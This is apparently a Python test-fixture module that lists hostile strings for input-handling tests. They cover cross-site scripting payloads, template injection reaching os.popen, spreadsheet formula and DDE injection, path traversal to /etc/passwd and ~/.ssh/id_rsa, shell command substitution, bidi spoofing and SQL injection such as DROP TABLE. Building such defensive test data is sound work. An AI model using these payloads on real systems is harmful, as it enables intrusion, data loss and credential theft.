"""Strings that strangers write where a name belongs; one list for every door and every exit.

Whatever would run sets ``window.ran``, the sentinel that the browser tests look for.
"""

SCRIPTS = (
    "<script>window.ran=1</script>",
    "</script><script>window.ran=1;alert(1)</script>",
    "</style><script>window.ran=1</script><!--",
    "</title><script>window.ran=1</script>",
    '<img src=x onerror="window.ran=1;alert(1)">',
    "<svg onload=window.ran=1><a href='https://example.org/x'>",
    '"><svg/onload=window.ran=1>',
    "' onmouseover='window.ran=1' x='",
    '" autofocus onfocus="window.ran=1" x="',
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<object data='javascript:window.ran=1'></object>",
    "<base href='https://example.org/'><link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<style>*{display:none}</style>",
    "javascript:window.ran=1//",
    "&lt;img src=x onerror=window.ran=1&gt; &amp;#123;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "');window.ran=1;//",
    '"};window.ran=1;var x={"',
    "*/window.ran=1;/*",
    "--><img src=x onerror=window.ran=1>",
    "]]><script>window.ran=1</script>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__.os.popen(dict(id=1)|first).read() }}",
    "{% for x in (1,2) %}{{ x }}{% endfor %}",
    "{# gone #} {{ ''.__class__ }} {{",
    "${window.ran=1}",
    "`${window.ran=1}`",
    "#{7*7} <%= 7*7 %>",
    "%(name)s %n%n%n {0.__class__} {name!r}",
    "$marking ${title} $$",
    "#set text(fill: red); #sys.version",
    "\\input{/etc/passwd} \\write18{id} $\\frac{1}{0}$",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("https://example.org/",A2),"//a")',
    '1,2",=3+3,"x',
    "a;b\tc|d",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "file:///etc/passwd",
    "C:\\CON",
    "~/.ssh/id_rsa",
    "|id",
    "$(id) `id` ;id&&id",
)
UNICODE = (
    "\u202egnp.exe\u202c Road",
    "\u2066gnp.exe\u2069 Road",
    "a\u2028window.ran=1;//\u2029b",
    "Z\u0336\u0321a\u0335lgo\u0300\u0301\u0302\u0303",
    "\ufeffBOM first",
    "zero\u200bwidth\u2060joined\u00ad",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0001",
    "İstanbul ẞ ﬁ Ǆ",
    "\u0660\u0661\u0662 ½ Ⅷ",
    "\ue000\uf8ff private use",
    "x" * 5_000,
)
SQL = (
    "'; DROP TABLE releases; --",
    "' OR '1'='1",
    "1); DELETE FROM audit; --",
    '" UNION SELECT sql FROM sqlite_master --',
    "Robert'); ATTACH DATABASE 'x' AS y; --",
)
MARKDOWN = (
    "![x](https://example.org/x.png) [y](javascript:alert(1))",
    "$a^2$ :red[z] `b` **c** :material/home: :sunglasses:",
    "<https://example.org> # head\n- item",
)
HOSTILE = (*SCRIPTS, *TEMPLATES, *FORMULAS, *PATHS, *UNICODE, *SQL, *MARKDOWN)


def folded(text):
    """Text as a person sees it on a page: runs of white space are one blank."""
    return " ".join(str(text).split())
